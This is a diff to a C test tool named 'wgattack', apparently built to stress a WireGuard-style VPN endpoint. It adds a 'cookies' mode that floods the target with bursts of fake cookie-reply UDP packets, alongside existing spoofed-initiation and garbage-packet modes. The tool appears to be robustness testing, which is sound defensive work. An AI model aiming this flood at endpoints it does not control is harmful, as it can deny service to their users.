@@ -6,6 +6,8 @@
  *     wgattack garbage ADDRESS PORT KEY              every length from 0 to 2000 with each message
  *                                                    type, then damaged initiations of a real peer;
  *                                                    prints how many were sent and answered
+ *     wgattack cookies ADDRESS PORT KEY SECONDS      what looks like cookies for it, a thousand at
+ *                                                    once, 50 times a second
  *     wgattack handshake ADDRESS PORT KEY            one initiation of that peer: "1" where
  * answered
  *
@@ -175,6 +177,30 @@ static void garbage(void)
 	printf("%lu %lu\n", sent, answered);
 }
 
+#define COOKIE  64
+#define COOKIES 60 /* in one train */
+
+static void cookies(double seconds)
+{
+	struct mono start = mono_now();
+	uint8_t train[COOKIES * COOKIE];
+	int fd = connected(), size = COOKIE;
+	unsigned long sent = 0;
+
+	if (setsockopt(fd, SOL_UDP, UDP_SEGMENT, &size, sizeof(size)) < 0)
+		die("UDP_SEGMENT");
+	while ((double)mono_since(mono_now(), start) / NS_PER_SEC < seconds) {
+		for (unsigned i = 0; i < 16; i++) {
+			randombytes_buf(train, sizeof(train));
+			for (unsigned k = 0; k < COOKIES; k++)
+				memcpy(train + (size_t)k * COOKIE, "\3\0\0", 4);
+			sent += send(fd, train, sizeof(train), 0) >= 0 ? COOKIES : 0;
+		}
+		nanosleep(&(struct timespec){0, 20 * NS_PER_MSEC}, NULL);
+	}
+	printf("%lu\n", sent);
+}
+
 static void one_handshake(void)
 {
 	uint8_t b[256];
@@ -203,7 +229,8 @@ int main(int argc, char **argv)
 	}
 	if (argc < 5 || !inet_aton(argv[2], &to.sin_addr) || key_from_base64(argv[4], &k) < 0) {
 		fputs("usage: wgattack key | spoof ADDRESS PORT KEY RATE SECONDS |\n"
-		      "       garbage ADDRESS PORT KEY | handshake ADDRESS PORT KEY\n",
+		      "       garbage ADDRESS PORT KEY | handshake ADDRESS PORT KEY |\n"
+		      "       cookies ADDRESS PORT KEY SECONDS\n",
 		      stderr);
 		return 2;
 	}
@@ -211,6 +238,8 @@ int main(int argc, char **argv)
 	wgpeer_init(&peer, 1, k.b);
 	if (strcmp(argv[1], "spoof") == 0 && argc == 7)
 		printf("%lu\n", spoof(atof(argv[5]), atof(argv[6])));
+	else if (strcmp(argv[1], "cookies") == 0 && argc == 6)
+		cookies(atof(argv[5]));
 	else if (strcmp(argv[1], "garbage") == 0)
 		garbage();
 	else
